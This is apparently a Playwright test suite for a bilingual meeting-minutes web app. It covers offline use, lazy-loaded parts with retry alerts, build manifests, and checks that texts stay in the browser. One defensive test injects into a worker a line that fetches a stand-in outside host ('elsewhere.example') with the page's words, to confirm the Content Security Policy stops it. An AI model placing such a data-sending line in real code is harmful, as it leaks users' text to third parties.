import { readFileSync, readdirSync } from 'node:fs';
import type { Locator, Page } from '@playwright/test';
import { drop, expect, hearViolations, open, paste, read, sample, test, visit } from './desk';
import { docxOf, report } from './fixtures';
import { talks } from './linked';

test('offline after the first load', async ({ desk, context }) => {
  await desk.evaluate(() => navigator.serviceWorker.ready);
  await desk.waitForFunction(() => navigator.serviceWorker.controller !== null);
  await context.setOffline(true);
  await desk.reload();
  await open(desk, 'dialogue');
  await expect(desk.locator('.card').first()).toContainText('Đối thoại');
  await context.setOffline(false);
});

test.describe('without what was kept of an earlier visit', () => {
  test.use({ serviceWorkers: 'block' });
  test('what one pasted article does not need is not asked for', async ({ desk: page }) => {
    const asked: string[] = [];
    page.on('request', (r) => asked.push(r.url()));
    await visit(page);
    await paste(page, sample('dialogue'));
    await read(page);
    await page.locator('.card .value').first().click();
    expect(asked.filter((url) => /\/assets\/(en|correct|bb-|lay|files|register|link|table|session|words|mail|docx|pdf|zip|bienban_(link|reader))/.test(url)).filter((url) => !url.endsWith('.css'))).toEqual([]);
    await page.getByRole('button', { name: 'English' }).click();
    await expect(page.getByRole('tab', { name: 'Meetings' })).toBeVisible();
    expect(asked.some((url) => /\/assets\/en-/.test(url))).toBe(true);
  });

  /** What needs a part, and what is there once it has come. */
  const parts: readonly (readonly [what: string, files: RegExp, want: (page: Page) => Promise<void>, there: (page: Page) => Locator])[] = [
    ['a language', /\/en-/, (page) => page.getByRole('button', { name: 'English' }).click(), (page) => page.getByRole('tab', { name: 'Meetings' })],
    ['finding', /\/bb-find/, (page) => page.locator('[data-find]').click(), (page) => page.locator('.find')],
    ['an editor', /\/bb-edit|\/edit-/, (page) => page.locator('.review [data-edit=m1]').click(), (page) => page.locator('.sheet.edit')],
    ['a correction', /\/correct-/, (page) => page.locator('[data-review=accepted]').first().click(), (page) => page.locator('[data-review=accepted][aria-pressed=true]')],
    ['the words', /\/bb-words/, async (page) => (await page.locator('[data-session]').click(), page.locator('[data-words]').click()), (page) => page.locator('.own-words')],
    ['linking', /\/(bb-)?register-/, async (page) => (await drop(page, talks), page.locator('[data-register]').click()), (page) => page.locator('.occurrence').first()],
    ['the tables', /\/bb-table/, async (page) => (await drop(page, talks), await page.locator('[data-register]').click(), page.locator('[data-as=table]').click()), (page) => page.locator('.all tbody tr').first()],
    ['an export', /\/session-/, async (page) => (await page.locator('[data-session]').click(), page.locator('.session-sheet [data-export]').click()), (page) => page.getByRole('status').last().filter({ hasText: 'Đã xuất phiên' })],
  ];
  for (const [what, files, want, there] of parts) {
    test(`a part that does not come is said, and tried again: ${what}`, async ({ desk: page, away }) => {
      await open(page, 'dialogue');
      const come = await away(files);
      await want(page);
      const alert = page.getByRole('alert');
      await expect(alert).toContainText('Một phần của trang chưa tải được');
      await expect(page.locator('html')).toHaveAttribute('lang', 'vi');
      await expect(there(page)).toHaveCount(0);
      await alert.getByRole('button', { name: 'Thử lại' }).click();
      await expect(alert).toBeVisible(); // still away
      await come();
      await alert.getByRole('button', { name: 'Thử lại' }).click();
      await expect(there(page)).toBeAttached();
      await expect(alert).toHaveCount(0);
      // It looks as it does for who never missed it.
      await expect.poll(() => page.evaluate(() => [...document.querySelectorAll('link')].filter((link) => link.rel === 'stylesheet' && !link.sheet).length)).toBe(0);
    });
  }

  test('a worker that would ask somebody else is stopped by the policy, and that is heard', async ({ page, context }) => {
    const said: string[] = [];
    const asked: string[] = [];
    page.on('console', (m) => m.type() === 'error' && said.push(m.text()));
    context.on('request', (r) => asked.push(r.url()));
    await context.route(/\/worker-/, async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, body: `${await response.text()}\nsetTimeout(() => fetch('https://elsewhere.example/?words').catch(() => {}), 500);` });
    });
    await hearViolations(page);
    await visit(page);
    await open(page, 'dialogue');
    await expect.poll(() => said.join()).toContain('CSP: connect-src https://elsewhere.example/');
    expect(asked.filter((url) => url.includes('elsewhere'))).toEqual([]);
  });

  for (const [what, files] of [['what all readers need', /\/bienban_reader_bg/], ['the reader of one kind', /\/docx-/]] as const) {
    test(`files wait for a reader that does not come: ${what}`, async ({ desk: page, away }) => {
      const come = await away(files);
      await drop(page, [{ name: 'a.txt', body: report(1).join('\n') }, { name: 'b.docx', body: [...docxOf(report(2))] }, { name: 'c.docx', body: [...docxOf(report(3))] }]);
      const alert = page.getByRole('alert');
      await expect(alert).toContainText('Một phần của trang chưa tải được'); // and not that a file is damaged
      await expect(page.locator('.batch')).toContainText(/Đã mở [01] trên 3 tệp/);
      await come();
      await expect(async () => {
        await alert.getByRole('button', { name: 'Thử lại' }).click(); // not at once after it failed
        await expect(alert).toHaveCount(0, { timeout: 2000 });
        await expect(page.locator('.docs-name')).toContainText('trên 3', { timeout: 2000 });
      }).toPass();
      await expect(page.locator('.batch')).toHaveCount(0);
    });
  }

  test('a page that does not come to life says so, in both languages, and is loaded again', async ({ desk: page, away }) => {
    const come = await away(/\/assets\/vi-/);
    await page.goto('./');
    await expect(page.getByText('Trang chưa tải xong')).toBeInViewport();
    await expect(page.getByRole('link', { name: 'Reload the page' })).toBeInViewport();
    await come();
    await page.getByRole('link', { name: 'Tải lại trang' }).click();
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await expect(page.getByText('Trang chưa tải xong')).toBeHidden();
  });
});

test('the manifest lists the build, all of it', () => {
  const { files } = JSON.parse(readFileSync('dist/manifest.json', 'utf8')) as { files: string[] };
  const built = readdirSync('dist', { recursive: true, withFileTypes: true }).filter((f) => f.isFile()).map((f) => `${f.parentPath.replace(/^dist\/?/, '')}/${f.name}`.replace(/^\//, ''));
  const unlisted = built.filter((f) => !files.includes(f) && !['manifest.json', '_headers'].includes(f));
  expect(unlisted).toEqual([]);
});

test('the policy stands in the page itself, without inline anything', () => {
  const html = readFileSync('dist/index.html', 'utf8');
  expect(html).toContain('http-equiv="Content-Security-Policy"');
  expect(html).not.toMatch(/unsafe-inline|'unsafe-eval'|<style|style=|<script>|\son\w+=/);
});

test('texts are kept in the database of this browser, and nowhere else', async ({ desk }) => {
  await open(desk, 'dialogue');
  const kept = await desk.evaluate(async () => ({
    local: { ...localStorage }, session: { ...sessionStorage }, databases: (await indexedDB.databases()).map((d) => d.name), cookie: document.cookie,
  }));
  expect(Object.keys(kept.local).filter((k) => !['bienban.lang', 'bienban.theme', 'bienban.place'].includes(k))).toEqual([]);
  expect(Object.keys(kept.session)).toEqual(['bienban.place']);
  for (const place of [kept.local['bienban.place'], kept.session['bienban.place']]) expect(JSON.parse(place!)).toEqual({ current: expect.stringMatching(/^d[0-9a-z]+$/) as unknown, view: 'articles', as: 'list', pane: 'article', tab: 'meetings' });
  expect(kept).toMatchObject({ databases: ['bienban'], cookie: '' });
});
